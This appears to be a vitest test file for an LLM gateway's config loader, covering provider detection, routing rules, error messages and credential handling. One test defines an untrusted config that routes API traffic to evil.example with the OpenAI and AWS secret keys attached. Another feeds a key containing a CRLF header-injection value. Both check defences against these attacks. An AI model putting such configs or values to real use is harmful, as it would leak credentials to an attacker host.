import { mkdirSync, rmSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { loadProject, loadProjectFromText, resolveProviders, type Project } from '../../../src/cli/project.ts'
import { temporaryDirectory } from './test-context.ts'

let cwd = ''
beforeEach(() => {
  cwd = temporaryDirectory()
  mkdirSync(join(cwd, '.git'))
})
afterEach(() => rmSync(cwd, { recursive: true, force: true }))

type Env = Readonly<Record<string, string | undefined>>
const load = (env: Env = {}, config?: string): Promise<Project> => loadProject({ cwd, config, env })
const write = (text: string, name = 'gateway.yaml'): void => writeFileSync(join(cwd, name), text)
const fromText = (text: string, over: Partial<Parameters<typeof loadProjectFromText>[0]> = {}): Promise<Project> =>
  loadProjectFromText({ text, file: 'git:main:gateway.yaml', dir: cwd, env: {}, ...over })

/** An environment that fails the test when one of these variables is read. */
function guarded(values: Env, forbidden: readonly string[]): Env {
  return new Proxy(values, {
    get(target, name) {
      if (typeof name === 'string' && forbidden.includes(name)) throw new Error(`${name} was read`)
      return typeof name === 'string' ? target[name] : undefined
    },
  })
}

describe('without a config', () => {
  it('runs on the simulated provider over three tiers, with rules that show routing', async () => {
    const project = await load()
    expect(project).toMatchObject({ file: null, dir: cwd, providersFrom: 'bundled', warnings: [], text: '' })
    expect(project.providers.map((provider) => provider.kind)).toEqual(['simulated'])
    expect(project.matrix.rows).toHaveLength(12)
    expect(project.routing.rules.map((rule) => rule.tier)).toEqual(['premium', 'free'])
    expect(project.configHash).toBe(project.routing.hash)
  })

  it('adds the providers whose keys are set', async () => {
    const project = await load({
      MISTRAL_API_KEY: 'k',
      GOOGLE_API_KEY: 'k',
      ANTHROPIC_API_KEY: 'k',
      OPENAI_API_KEY: ' ',
    })
    expect(project.providersFrom).toBe('environment')
    expect(project.providers.map((provider) => [provider.name, provider.keyReferences])).toEqual([
      ['anthropic', ['${ANTHROPIC_API_KEY}']],
      ['google', ['${GOOGLE_API_KEY}']],
      ['mistral', ['${MISTRAL_API_KEY}']],
    ])
    expect(project.providers.find(({ name }) => name === 'google')).toMatchObject({
      kind: 'gemini',
      baseUrl: 'https://generativelanguage.googleapis.com/v1beta',
    })
    expect(project.warnings).toEqual([])
  })

  it('drops first-run rules for tiers without a model', async () => {
    const project = await load({ DEEPSEEK_API_KEY: 'k' })
    expect(new Set(project.matrix.rows.map((row) => row.tier))).toEqual(new Set(['free', 'standard']))
    expect(project.routing.rules.map((rule) => rule.tier)).toEqual(['free'])
  })
})

describe('with a config', () => {
  it('is found, read and compiled', async () => {
    write('providers: { openai: { kind: openai } }\nmodels: { gpt-5.4: { tier: premium } }\n')
    const project = await load()
    expect(project.file).toBe(join(cwd, 'gateway.yaml'))
    expect(project.providersFrom).toBe('config')
    expect(project.matrix.rows.map((row) => [row.id, row.tier, row.targets[0]?.provider])).toEqual([
      ['gpt-5.4', 'premium', 'openai'],
    ])
    expect(project.routing.rules).toEqual([])
  })

  it('says what is not active yet', async () => {
    write('providers: { a: { kind: anthropic } }\ncache: { exact: { ttl: 5m } }\nmodels: { claude-opus-4-8: {} }\n')
    expect((await load()).warnings).toEqual(['not active yet, so without effect: cache'])
  })

  it('says when a rule narrows to a tier without models', async () => {
    write('models: { gpt-5.4: { tier: free } }\nrouting: { rules: [{ name: r, when: {}, tier: premium }] }\n')
    expect((await load()).matrixWarnings).toEqual(['rule "r": no model is of tier premium'])
  })

  it('throws one error with every mistake', async () => {
    write('tires: [a]\nrouting: { default_policy: bst }\n')
    await expect(load()).rejects.toMatchObject({
      code: 'config_invalid',
      message: 'gateway.yaml has 2 mistakes',
      data: { report: expect.stringMatching(/gateway\.yaml:1:1[\s\S]*gateway\.yaml:2:28/) },
    })
  })

  it.each([
    ['missing.yaml', 'does not exist'],
    ['.git', 'can not be read'],
  ])('named %s: %s', async (name, expected) => {
    await expect(load({}, name)).rejects.toMatchObject({
      code: 'config_not_found',
      message: expect.stringContaining(expected),
    })
  })

  it('takes GATEWAY_SET under --set', async () => {
    write('routing: { sticky: session, default_policy: best }\n')
    const env = { GATEWAY_SET: 'routing.default_policy=cheapest\nrouting.sticky=off\n' }
    const project = await loadProject({ cwd, config: undefined, env }, { sets: ['routing.default_policy=fastest'] })
    expect(project.routing).toMatchObject({ defaultPolicy: 'fastest', sticky: 'off' })
  })
})

describe('a config from a repository that is not trusted', () => {
  const hostile = `providers:
  openai: { kind: openai, base_url: https://evil.example/v1, api_keys: ["\${OPENAI_API_KEY}", "\${AWS_SECRET_ACCESS_KEY}"] }
models: { gpt-5.4: { provider: openai } }
`
  it('is loaded for offline commands without any variable that it names being read', async () => {
    write(hostile)
    const env = guarded({}, ['OPENAI_API_KEY', 'AWS_SECRET_ACCESS_KEY'])
    const project = await load(env)
    expect(project.matrix.rows[0]?.targets[0]?.hasCredentials).toBe(true)
    expect(JSON.stringify(project)).toContain('${OPENAI_API_KEY}')
  })

  it('keeps secrets out of the project also when their presence is checked', async () => {
    write(hostile)
    const project = await loadProject(
      { cwd, config: undefined, env: { OPENAI_API_KEY: 'super-secret-value' } },
      { credentials: 'present' },
    )
    expect(project.matrix.rows[0]?.targets[0]?.hasCredentials).toBe(true)
    expect(JSON.stringify(project)).not.toContain('super-secret-value')
  })
})

describe('credentials', () => {
  const text = `providers:
  openai: { kind: openai, api_keys: ["\${A}"] }
  claude: { kind: anthropic, api_keys: ["\${A}"] }
  local: { preset: ollama }
  filed: { preset: groq, api_keys: ["file:groq.key"] }
models:
  a: { provider: openai }
  b: { provider: claude }
  c: { provider: local }
  d: { provider: filed }
`
  const usable = async (credentials: 'declared' | 'present', env: Env): Promise<string[]> => {
    const { matrix } = await fromText(text, { credentials, env })
    return matrix.rows.filter((row) => row.targets[0]?.hasCredentials).map((row) => row.id)
  }

  it('count as present offline once they are declared', async () => {
    expect(await usable('declared', {})).toEqual(['a', 'b', 'c', 'd'])
  })

  it('live, must exist', async () => {
    expect(await usable('present', {})).toEqual(['c'])
    writeFileSync(join(cwd, 'groq.key'), 'gk')
    expect(await usable('present', { A: 'x' })).toEqual(['a', 'b', 'c', 'd'])
  })

  it('are resolved from variables and files, without line ends and without repeating one', async () => {
    writeFileSync(join(cwd, 'groq.key'), 'gk\n')
    const project = await fromText(text.replace('"${A}"]', '"${A}", "${B}", "${A}"]'))
    const warnings: string[] = []
    const settings = resolveProviders(project, { A: ' key-a\n' }, (warning) => warnings.push(warning))
    expect(settings.map(({ name, kind, apiKeys }) => [name, kind, apiKeys])).toEqual([
      ['openai', 'openai', ['key-a']],
      ['claude', 'anthropic', ['key-a']],
      ['local', 'openai-compatible', []],
      ['filed', 'openai-compatible', ['gk']],
    ])
    expect(warnings).toEqual(['provider "openai" has no key: B is not set'])
    expect(settings[0]).toMatchObject({
      baseUrl: 'https://api.openai.com/v1',
      timeouts: { connectMs: 5_000, firstTokenMs: 30_000, idleMs: 60_000, totalMs: 600_000 },
      maxConcurrency: 64,
    })
  })

  it('with a line break inside are refused: they would break out of the header', async () => {
    const project = await fromText('providers: { openai: { kind: openai } }')
    expect(resolveProviders(project, { OPENAI_API_KEY: 'a\r\nX-Evil: 1' })[0]?.apiKeys).toEqual([])
  })
})

describe('a config text', () => {
  it('is named in errors as it was given', async () => {
    await expect(fromText('foo: 1')).rejects.toMatchObject({ message: 'git:main:gateway.yaml has a mistake' })
  })

  it('with the same meaning has the same hashes as a file', async () => {
    write('models: { gpt-5.4: { tier: free } }\n')
    const [file, text] = [await load(), await fromText('# other\nmodels:\n  gpt-5.4:\n    tier: free\n')]
    expect([text.configHash, text.matrix.hash]).toEqual([file.configHash, file.matrix.hash])
  })

  it('tells the line of each rule', async () => {
    const { routing } = await fromText(
      'routing:\n  rules:\n    - { name: a, when: {}, tier: free }\n    - name: b\n      when: {}\n',
    )
    expect(routing.rules.map((rule) => rule.line)).toEqual([3, 4])
  })
})
